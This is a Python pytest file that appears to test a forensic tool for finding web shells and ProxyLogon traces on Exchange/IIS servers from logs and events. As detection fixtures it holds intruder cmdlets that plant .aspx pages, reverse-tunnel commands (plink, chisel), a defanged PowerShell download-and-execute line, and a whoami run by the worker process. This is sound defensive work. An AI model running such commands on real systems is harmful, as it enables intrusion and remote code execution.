"""Stories of what the evidence can't prove, and of events: absence of a row is no proof, and honest acts are none."""

from __future__ import annotations

import gzip
import re

import pytest

from tests.builders.event_logs import Event, audit, cmdlet_event, sysmon
from tests.builders.inert import live
from tests.builders.log_rows import Request
from tests.builders.servers import HOST_CONFIG
from tests.stories.evidence import (
    AUTH,
    IIS_LOGS,
    INTRUDER,
    OPEN,
    SECOND,
    SITE,
    Server,
    Told,
    at,
    on_server,
    ordinary_rows,
    row,
    shell,
    times,
    w3c,
)
from tests.stories.test_exploitation_grades import PAGE, anchored, set_url

X1 = "/aspnet_client/x1.aspx"
UNKNOWN = (
    r"unknown|not (all |completely )?(read|covered|known)|no logs?\b|missing|incomplete|"
    r"logging|before the (logs|plant)|after the logs"
)


def line_of(told: Told, name: str) -> str:
    """Return the row of the table about a page."""
    found = [each for each in told.raw_text.splitlines() if re.match(r"^ ?\d+  ", each) and name in each]
    assert found, told.raw_text[:1500]
    return found[0]


def doubted(told: Told) -> None:
    """Require that the text does not take the absence of rows for the absence of requests."""
    use = told.one("x1.aspx")["use"]
    said = " ".join(each for each in told.raw_text.splitlines() if "not requested" in each)
    assert use is None or re.search(UNKNOWN, said), f"said: {said or line_of(told, 'x1.aspx')}"
    assert "not requested" not in line_of(told, "x1.aspx") or re.search(UNKNOWN, said), said


# absence of rows


def test_the_log_of_the_site_is_missing() -> None:
    server = Server()
    server.shell()
    server.add(
        f"{IIS_LOGS}/W3SVC2/u_ex210303.log",
        w3c(*(row(f"03 04:0{n}:00", "/powershell", "POST", client="192.0.2.10") for n in range(5))),
    )
    doubted(server.hunt())


def test_the_logs_end_before_the_planting() -> None:
    server = Server()
    server.shell(when="10 04:00:00")
    for day in ("01", "02"):
        server.add(f"{IIS_LOGS}/W3SVC1/u_ex2103{day}.log", w3c(*ordinary_rows(day)))
    doubted(server.hunt())


def test_the_day_of_the_planting_is_missing() -> None:
    server = Server()
    server.shell(when="03 04:00:00")
    for day in ("01", "02", "05", "06"):
        server.add(f"{IIS_LOGS}/W3SVC1/u_ex2103{day}.log", w3c(*ordinary_rows(day)))
    told = server.hunt()
    told.says(r"2 missing|2021-03-03 (to|until|and) 2021-03-04")


def test_a_compressed_log_that_is_cut_off() -> None:
    server = Server()
    server.shell()
    rows = sorted(
        [*ordinary_rows("03", 3_000), *(row(f"09 04:0{n}:00", X1, "POST") for n in range(5))],
        key=lambda each: str(each["when"]),
    )
    whole = gzip.compress(w3c(*rows), mtime=0)
    server.add(f"{IIS_LOGS}/W3SVC1/u_ex210303.log.gz", whole[: len(whole) // 2])
    told = server.hunt()
    doubted(told)
    assert [each for each in told.gaps if each["matters"] and "u_ex210303" in str(each["path"])], told.gaps


def test_logging_is_switched_off_for_the_folder() -> None:
    server = Server()
    server.visitors("03", "04")
    server.shell()
    host = server.files[HOST_CONFIG].decode()
    off = (
        '<location path="Default Web Site/aspnet_client"><system.webServer><httpLogging '
        'dontLog="true" /></system.webServer></location>'
    )
    server.add(HOST_CONFIG, host.replace("</configuration>", f"{off}</configuration>"), at("03 04:00:00"))
    told = server.hunt()
    told.says(r"switches off the log|logging (is|was) (off|switched off)|dontLog")
    doubted(told)


def test_logs_that_were_not_to_be_read() -> None:
    server = Server()
    server.visitors("03")
    server.shell()
    server.call("POST", X1, times("03 04:20:00", 2))
    told = server.hunt(read=False)
    assert told.one("x1.aspx")["use"] is None
    told.never("not requested")
    told.says(r"not read")


def test_a_shell_outside_of_every_site_has_no_requests() -> None:
    """The address exists on the site as another page; the requests are not for this file."""
    server = Server()
    server.visitors("03")
    server.add("Windows/Temp/iisstart2.aspx", shell(), at("03 04:00:00"))
    server.add(f"{SITE}/iisstart2.aspx", b"<html></html>", at("01 04:00:00"))
    server.call("GET", "/iisstart2.aspx", times("03 04:20:00", 3), "198.51.100.3")
    told = server.hunt()
    found = [each for each in told.accused if each["path"] == r"C:\Windows\Temp\iisstart2.aspx"]
    assert found, told.names
    assert not found[0]["use"] or found[0]["use"]["requests"] == 0, found[0]["use"]
    assert "198.51.100.3" not in told.sentence + told.blocked


def test_two_shells_of_one_name_have_their_own_use() -> None:
    server = Server()
    server.visitors("03")
    server.shell("aspnet_client/x1.aspx")
    server.shell("aspnet_client/system_web/x1.aspx")
    server.call("POST", "/aspnet_client/system_web/x1.aspx", times("03 04:20:00", 3))
    told = server.hunt()
    uses = {each["path"]: each["use"]["answered"] for each in told.of("x1.aspx")}
    assert uses == {
        on_server(f"{SITE}/aspnet_client/x1.aspx"): 0,
        on_server(f"{SITE}/aspnet_client/system_web/x1.aspx"): 3,
    }


def test_more_clients_than_the_sentence_names() -> None:
    server = Server()
    server.visitors("03")
    server.shell()
    for number in range(6):
        server.call("POST", X1, times(f"03 0{number}:20:00", 6 - number), f"203.0.113.{10 + number}")
    told = server.hunt()
    assert told.use("x1.aspx")["client_count"] == 6
    assert re.search(r"Used by 203\.0\.113\.10.* and \d more clients", told.sentence), told.sentence
    for number in range(6):
        assert f"203.0.113.{10 + number}" in told.blocked, told.blocked


def test_a_client_of_ipv6() -> None:
    server = Server()
    server.visitors("03")
    server.shell()
    server.call("POST", X1, times("03 04:20:00", 3), "2001:db8::77")
    told = server.hunt()
    assert told.use("x1.aspx")["clients"] == ["2001:db8::77"]
    assert "2001:db8::77" in told.blocked


# entry


def test_an_exploit_after_the_planting_did_not_plant_it() -> None:
    server = Server(OPEN)
    server.visitors("01", "02", "03", "04", "05")
    server.shell(when="01 04:00:00")
    server.call("POST", X1, times("01 04:20:00", 3), SECOND)
    set_url(server, "05 04:10:08", f"http://f/{PAGE}")
    told = server.hunt()
    assert "(proven)" not in line_of(told, "x1.aspx"), line_of(told, "x1.aspx")


def test_an_exploit_a_minute_before_the_planting_is_its_route() -> None:
    server = Server(OPEN)
    server.visitors("03")
    set_url(server, "03 03:59:40", f"http://f/{PAGE}")
    anchored(server, "03 03:59:45", "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory")
    server.shell(when="03 04:00:00")
    told = server.hunt()
    assert "ProxyLogon" in line_of(told, "x1.aspx")
    told.says("entry by ProxyLogon")


def test_an_exploit_without_a_page_is_a_trace() -> None:
    server = Server(OPEN)
    server.visitors("03")
    set_url(server, "03 03:59:40", f"http://f/{PAGE}")
    told = server.hunt()
    assert (
        told.sentence.startswith(("0 back doors", "No back door", "ProxyLogon", "The logs", "Exploit"))
        or "back door found" not in told.sentence
    ), told.sentence
    assert "traces" in told.state or told.state == "backdoored_and_vulnerable" or "exploit" in told.state, told.state


# cmdlets and events


WHEN = "2021-03-03T04:25:10Z"


def with_events(*told: Event) -> Told:
    server = Server(OPEN)
    server.visitors("03")
    server.events(told[0].channel, *told)
    return server.hunt()


W3WP = {
    "ParentImage": r"C:\Windows\System32\inetsrv\w3wp.exe",
    "ParentCommandLine": "w3wp.exe -ap MSExchangeOWAAppPool",
}


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("New-MailboxExportRequest", r'-Mailbox "anna" -FilePath "\\files01\pst$\anna.pst"'),
        (
            "New-ExchangeCertificate",
            r'-GenerateRequest "True" -SubjectName "CN=mail.example.com" -RequestFile "\\files01\certs\mail.req"',
        ),
        (
            "Set-OabVirtualDirectory",
            '-ExternalUrl "https://mail.example.com/OAB" -Identity "EXCH01\\OAB (Default Web Site)"',
        ),
        (
            "Set-OwaVirtualDirectory",
            '-ExternalUrl "https://mail.example.com/owa" -Identity "EXCH01\\owa (Default Web Site)"',
        ),
        ("Get-MailboxExportRequest", ""),
        ("Set-ExchangeServer", '-Identity "EXCH01" -ErrorReportingEnabled "False"'),
    ],
)
def test_the_cmdlets_of_an_administrator(name: str, words: str) -> None:
    told = with_events(cmdlet_event(name, words))
    told.quiet()
    told.never(r"planted a page|was exploited")


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("Set-OabVirtualDirectory", f'-ExternalUrl "http://f/{PAGE}" -Identity "EXCH01\\OAB (Default Web Site)"'),
        (
            "New-MailboxExportRequest",
            r'-Mailbox "anna" -FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\rpt.aspx"',
        ),
        (
            "New-ExchangeCertificate",
            r'-GenerateRequest "True" -BinaryEncoded "True" -RequestFile '
            r'"\\localhost\c$\inetpub\wwwroot\aspnet_client\rpt.aspx"',
        ),
    ],
)
def test_the_cmdlets_of_an_intruder(name: str, words: str) -> None:
    told = with_events(cmdlet_event(name, words))
    assert told.accused, told.sentence
    told.says(name)


def test_a_cmdlet_that_failed_planted_nothing() -> None:
    words = r'-Mailbox "anna" -FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\rpt.aspx"'
    told = with_events(cmdlet_event("New-MailboxExportRequest", words, number=6, error="Some.Exception"))
    told.never(r"was planted|planted a page\b(?!.{0,80}(refused|failed))")
    assert not [each for each in told.accused if each["disposition"] == "malicious"], told.names


def test_a_page_that_a_cmdlet_planted_and_that_is_gone() -> None:
    server = Server(OPEN)
    server.visitors("03")
    words = r'-Mailbox "anna" -FilePath "\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\rpt.aspx"'
    server.events("MSExchange Management", cmdlet_event("New-MailboxExportRequest", words, time="2021-03-03T04:10:08Z"))
    server.call("POST", "/aspnet_client/rpt.aspx", times("03 04:20:00", 3))
    told = server.hunt()
    found = [each for each in told.verdicts if "rpt.aspx" in each["path"]]
    assert found, told.names
    assert "deleted" in {each["presence"] for each in found}, [(each["path"], each["presence"]) for each in found]
    uses = [each["use"]["answered"] for each in found if each["use"]]
    assert uses == [3], uses
    assert INTRUDER in told.blocked + told.sentence, (told.sentence, told.blocked)


def test_asp_net_compiles_a_page() -> None:
    told = with_events(
        sysmon(
            1,
            WHEN,
            Image=r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe",
            CommandLine='"csc.exe" /noconfig @"C:\\Windows\\Temp\\a.cmdline"',
            **W3WP,
        ),
    )
    told.quiet()


def test_a_worker_process_runs_a_command() -> None:
    told = with_events(sysmon(1, WHEN, Image=r"C:\Windows\System32\cmd.exe", CommandLine="cmd.exe /c whoami", **W3WP))
    assert told.accused, told.sentence
    told.says("whoami")


@pytest.mark.parametrize(
    ("image", "words"),
    [
        (r"C:\Windows\Temp\plink.exe", "plink.exe -R 3389:127.0.0.1:3389 root@203.0.113.77"),
        (r"C:\ProgramData\frpc.exe", "frpc.exe -c frpc.ini"),
        (r"C:\Users\Public\chisel.exe", "chisel.exe client 203.0.113.77:443 R:socks"),
    ],
)
def test_a_tunnel_is_told(image: str, words: str) -> None:
    told = with_events(sysmon(1, WHEN, Image=image, CommandLine=words, ParentImage=r"C:\Windows\System32\cmd.exe"))
    assert [each for each in told.verdicts if image.rpartition("\\")[2] in str(each)], told.sentence


def test_a_worker_process_writes_a_page() -> None:
    target = on_server(f"{SITE}/aspnet_client/new9.aspx")
    told = with_events(sysmon(11, WHEN, Image=W3WP["ParentImage"], TargetFilename=target))
    assert told.accused, told.sentence
    told.says(r"new9\.aspx")


def test_the_installer_writes_pages() -> None:
    target = on_server(f"{AUTH}/logon.aspx")
    told = with_events(sysmon(11, WHEN, Image=r"C:\Windows\System32\msiexec.exe", TargetFilename=target))
    told.quiet()


def test_a_download_command_in_an_event_is_not_live_in_the_text() -> None:
    script = live("Invoke-Exp·ression (New-Object Net.Web·Client).Down·loadString('http://203.0.113.77/a.ps1')")
    told = with_events(
        sysmon(1, WHEN, Image=r"C:\Windows\System32\cmd.exe", CommandLine=f'cmd.exe /c powershell "{script}"', **W3WP)
    )
    assert told.accused
    assert script not in str(told.document)


def test_requests_that_http_sys_refused_are_no_use() -> None:
    server = Server()
    server.visitors("03")
    server.shell()
    for when in times("03 04:20:00", 3):
        server.logs.refused(when, INTRUDER, "AppOffline", X1, 503)
    told = server.hunt()
    assert "Used by" not in told.sentence, told.sentence
    assert not told.blocked, told.blocked


def test_requests_in_the_logs_of_another_server_are_not_of_this_one() -> None:
    """A copy of the front-end log of EXCH02 lies among those of EXCH01; its rows name their server."""
    server = Server()
    server.visitors("03")
    server.logs.proxy("Owa", Request(at("03 04:20:00"), "GET", "/owa/", "198.51.100.4"))
    told = server.hunt()
    told.quiet()


def test_an_hourly_log_and_a_rolled_one() -> None:
    server = Server()
    server.shell()
    server.add(f"{IIS_LOGS}/W3SVC1/u_ex21030304.log", w3c(*ordinary_rows("03", 5), row("03 04:20:00", X1, "POST")))
    server.add(f"{IIS_LOGS}/W3SVC1/u_ex21030305.log", w3c(row("03 05:20:00", X1, "POST")))
    told = server.hunt()
    assert told.use("x1.aspx")["answered"] == 2
    assert told.moments("last_used")[0]["witness"].startswith(on_server(f"{IIS_LOGS}/W3SVC1/u_ex21030305.log"))


def test_a_log_of_utf_16() -> None:
    server = Server()
    server.shell()
    text = w3c(*ordinary_rows("03", 5), row("03 04:20:00", X1, "POST")).decode()
    server.add(f"{IIS_LOGS}/W3SVC1/u_ex210303.log", text.encode("utf-16"))
    assert server.hunt().use("x1.aspx")["answered"] == 1


def test_a_benign_page_that_is_used_is_not_told() -> None:
    server = Server()
    server.visitors("03")
    server.add(
        f"{SITE}/hello.aspx", b'<%@ Page Language="C#" %>\n<html><body>Hello</body></html>\n', at("2020-12-16 02:10:00")
    )
    server.call("POST", "/hello.aspx", times("03 04:20:00", 3), "198.51.100.3")
    told = server.hunt()
    told.quiet()
    assert "198.51.100.3" not in told.sentence


def test_a_service_of_exchange_that_the_front_end_calls_is_no_finding() -> None:
    server = Server()
    server.visitors("03")
    server.call("POST", "/ecp/DDI/DDIService.svc/GetList", times("03 08:20:00", 30), "192.0.2.10", site=2, port=444)
    told = server.hunt()
    told.quiet()
    told.never(r"UNEXPLAINED [^ ]*DDIService\.svc|UNEXPLAINED C:\\Program Files\\\S+ \S+\\DDIService\.svc")
    assert not told.of("DDIService.svc") or told.one("DDIService.svc")["disposition"] == "benign", told.one(
        "DDIService.svc"
    )["findings"]


def cleared(when: str = "2021-03-03T01:00:00Z") -> Event:
    values = {"SubjectUserName": "admin", "SubjectDomainName": "EXAMPLE"}
    return Event(1102, "Microsoft-Windows-Eventlog", values, "Security", when, user=True)


def test_the_numbers_of_the_timeline_are_those_of_the_table() -> None:
    """Three traces of one log: a number leads to the row about the same act."""
    worker = audit(
        4688,
        "2021-03-03T02:00:00Z",
        NewProcessName=r"C:\Windows\System32\cmd.exe",
        CommandLine="cmd.exe /c whoami",
        ParentProcessName=r"C:\Windows\System32\inetsrv\w3wp.exe",
    )
    account = audit(4720, "2021-03-03T02:10:00Z", TargetUserName="support$", SubjectUserName="DefaultAppPool")
    told = with_events(cleared(), worker, account)
    number = re.search(r"log cleared: \[(\d+)\]", told.text)
    if number is not None:
        row_of = next(each for each in told.raw_text.splitlines() if re.match(rf" ?{number[1]}  ", each))
        assert "cleared" in row_of, (number[0], row_of)


def test_the_time_of_a_cleared_log_is_known() -> None:
    told = with_events(cleared())
    assert "2021-03-03" in line_of(told, "Security.evtx"), line_of(told, "Security.evtx")


def test_a_page_that_ran_and_was_deleted_is_no_trace_of_exploitation() -> None:
    server = Server()
    server.visitors("03")
    server.ran("/owa/auth/kq7w.aspx", application="owa")
    told = server.hunt()
    assert "exploit" not in told.sentence.lower(), told.sentence
    told.says(r"kq7w\.aspx")
